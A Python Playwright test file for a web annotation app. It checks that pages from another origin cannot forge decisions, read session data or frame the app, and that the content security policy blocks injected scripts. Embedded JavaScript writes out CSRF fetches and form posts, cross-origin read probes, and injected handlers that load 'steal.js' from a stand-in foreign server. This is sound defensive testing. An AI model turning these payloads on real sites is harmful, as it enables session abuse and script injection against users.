"""A page of somebody else in the same browser tries to decide, to read and to frame; the page's own policy stops what got in."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Page

from page_kit import decisions, holds, ids, on_screen, press, project, state
from screens import go
from served import Served

# The browser says so where it stops something; that is what these tests want.
STOPPED = (
    "403",
    "401",
    "404",
    "405",
    "415",
    "400",
    "CORS",
    "Content Security Policy",
    "X-Frame-Options",
    "Cross-Origin",
    "ERR_",
    "frame",
)
FETCHES = """async ([target, body]) => {
  const tries = {
    plain: { method: "POST", mode: "no-cors", credentials: "include", body, headers: { "Content-Type": "text/plain" } },
    bare: { method: "POST", mode: "no-cors", credentials: "include", body },
    json: { method: "POST", credentials: "include", body, headers: { "Content-Type": "application/json", "X-Hyla-CSRF": "1" } },
    beacon: { method: "POST", mode: "no-cors", credentials: "include", keepalive: true, body: new Blob([body]) },
    remove: { method: "DELETE", credentials: "include" },
  };
  const seen = {};
  for (const [name, init] of Object.entries(tries)) {
    seen[name] = await fetch(target, init).then((one) => one.text(), () => "").then((text) => text.length);
  }
  return seen;
}"""
READS = """async ([own, paths]) => {
  const got = [];
  const ended = (one) => new Promise((done) => { one.onload = () => done(true); one.onerror = () => done(false); });
  for (const path of paths) {
    const url = own + path;
    const text = (mode) => fetch(url, { mode, credentials: "include" }).then((one) => one.text(), () => "");
    if (await text("cors") || await text("no-cors")) got.push(`fetch ${path}`);
    const image = new Image();
    const loaded = ended(image);
    image.src = url;
    if (await loaded) got.push(`img ${path}: ${image.naturalWidth}`);
    for (const [tag, key] of [["script", "src"], ["link", "href"]]) {
      const one = document.createElement(tag);
      one.rel = "stylesheet";
      const done = ended(one);
      one[key] = url;
      document.head.append(one);
      if (await done) got.push(`${tag} ${path}`);
    }
  }
  return got;
}"""
FORM = """([action, body, type]) => {
  const form = Object.assign(document.createElement("form"), { action, method: "POST", enctype: type });
  const field = document.createElement("input");
  [field.name, field.value] = [body.slice(0, -1) + ',"x":"', '"}'];
  form.append(field);
  document.body.append(form);
  form.submit();
}"""
FRAME = """(url) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { done(frame.contentDocument?.body?.innerText ?? "closed to us") } catch { done("closed to us") } };
  frame.src = url;
  document.body.append(frame);
})"""
INJECT = """async (foreign) => {
  const said = (window.__said = []);
  document.addEventListener("securitypolicyviolation", (one) => said.push(one.effectiveDirective));
  window.__got = [];
  const script = document.createElement("script");
  script.textContent = "window.__got.push('inline')";
  document.body.append(script);
  const holder = document.createElement("div");
  holder.innerHTML = `<img src="x" onerror="window.__got.push('handler')"><a href="javascript:window.__got.push('link')">x</a>
    <p style="position: fixed; inset: 0">over all</p>`;
  document.body.append(holder);
  holder.querySelector("a").click();
  const ended = (one) => new Promise((done) => { one.onload = () => done("loaded"); one.onerror = () => done("stopped"); });
  const ends = [];
  for (const [tag, key] of [["script", "src"], ["img", "src"], ["link", "href"], ["iframe", "src"]]) {
    const one = document.createElement(tag);
    one.rel = "stylesheet";
    const end = tag === "iframe" ? Promise.resolve("stopped") : ended(one);
    one[key] = `${foreign}/steal.js`;
    document.body.append(one);
    ends.push(await end);
  }
  ends.push(await fetch(`${foreign}/steal`, { mode: "no-cors" }).then(() => "loaded", () => "stopped"));
  return { got: window.__got, ends, over: getComputedStyle(holder.querySelector("p")).position };
}"""


@contextmanager
def foreign() -> Iterator[tuple[int, list[str]]]:
    """Serve an empty page on another port; give the port, and the list of what is asked of it."""
    asked: list[str] = []

    class Page_(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
            self.end_headers()
            self.wfile.write(
                b"window.__got.push('foreign')" if self.path.endswith(".js") else b"<!doctype html><title>prizes</title>"
            )

        def log_message(self, *words: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page_)
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def target(serve: Callable[..., Served], visit: Callable[..., Page]) -> tuple[Served, Page, str, str]:
    """Open the page for a person at an item, and write down a decision that would be valid."""
    here = serve("photo 12 9")
    item = ids(here.project, "photo")["photo-0002"]
    page = visit(here, expect=STOPPED)
    with page.expect_request(lambda one: one.url.endswith("/lease")) as lease:
        go(page, f"item/{item}")
    on_screen(page)
    tab = lease.value.post_data_json["tab"]
    decide = {"item": item, "action": "accept", "annotation": state(here.project, item)["annotation"], "rows": [], "active_ms": 1}
    return here, page, item, json.dumps({"decisions": [decide], "tab": tab, "mode": "single", "note": ""})


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])  # of the same site as ours, and of another
def test_another_page_decides_and_reads_nothing(host: str, target: tuple[Served, Page, str, str]) -> None:
    here, page, item, body = target
    own = here.address.rstrip("/")
    with foreign() as (port, _):
        evil = page.context.new_page()
        evil.goto(f"http://{host}:{port}/")
        assert own.split("/")[2] not in evil.evaluate("document.cookie + location")
        assert "hyla" not in evil.evaluate("document.cookie"), "the session is out of reach of scripts"
        for path in ("/api/v1/decisions", "/api/v1/undo", "/api/v1/session", "/api/v1/people"):
            assert set(evil.evaluate(FETCHES, [own + path, body]).values()) == {0}
        annotation = json.loads(body)["decisions"][0]["annotation"]
        paths = ["/api/v1/queue", "/api/v1/session", f"/api/v1/items/{item}", f"/media/{item}/image.jpg?max=1024"]
        assert evil.evaluate(READS, [own, [*paths, f"/media/{item}/crop/{annotation}/2.jpg"]]) == []
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            evil.goto(f"http://{host}:{port}/")
            with evil.expect_navigation(), evil.expect_response("**/api/v1/decisions") as answer:
                evil.evaluate(FORM, [f"{own}/api/v1/decisions", body, kind])
            assert answer.value.status in (403, 415)
        evil.close()
    assert decisions(here.project) == []
    with project(here.project) as found:
        assert found.verify().ok

    # What was tried is what the page itself does, and there it works.
    status = page.evaluate(
        "async (body) => { const { csrf } = await (await fetch('/api/v1/session')).json();"
        " const headers = { 'Content-Type': 'application/json', 'X-Hyla-CSRF': csrf, 'Idempotency-Key': crypto.randomUUID() };"
        " return (await fetch('/api/v1/decisions', { method: 'POST', headers, body })).status }",
        body,
    )
    assert (status, len(decisions(here.project))) == (200, 1)
    holds(here.project)


def test_it_is_not_framed_and_not_reached_through_a_window(target: tuple[Served, Page, str, str]) -> None:
    here, page, _, _ = target
    with foreign() as (port, _):
        evil = page.context.new_page()
        evil.goto(f"http://127.0.0.1:{port}/")
        assert evil.evaluate(FRAME, here.address) == "closed to us"
        assert all(frame.url in (evil.url, "chrome-error://chromewebdata/") for frame in evil.frames), (
            "nothing of ours is in there"
        )
        with page.context.expect_page() as opened:
            evil.evaluate("(url) => void (window.__ours = window.open(url))", here.address)
        ours = opened.value
        ours.wait_for_selector(".lanes")
        assert ours.evaluate("window.opener") is None
        assert evil.evaluate("window.__ours.closed"), "the two know nothing of each other"
        evil.close()
    press(ours, "?")
    ours.get_by_role("dialog", name="Keys").wait_for()
    assert decisions(here.project) == []


def test_the_policy_stops_what_got_into_the_page(target: tuple[Served, Page, str, str], tmp_path: Path) -> None:
    here, page, _, _ = target
    with foreign() as (port, asked):
        found = page.evaluate(INJECT, f"http://127.0.0.1:{port}")
        page.wait_for_function("() => window.__hyla.bench.item")
        assert found["got"] == []
        assert found["ends"] == ["stopped"] * 5
        assert found["over"] == "static", "no style can be laid over the page"
        assert asked == [], "nothing was told to another server"
        said = ["script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem", "img-src", "connect-src", "frame-src"]
        page.wait_for_function("(all) => all.every((one) => window.__said.includes(one))", arg=said)
    assert decisions(here.project) == []
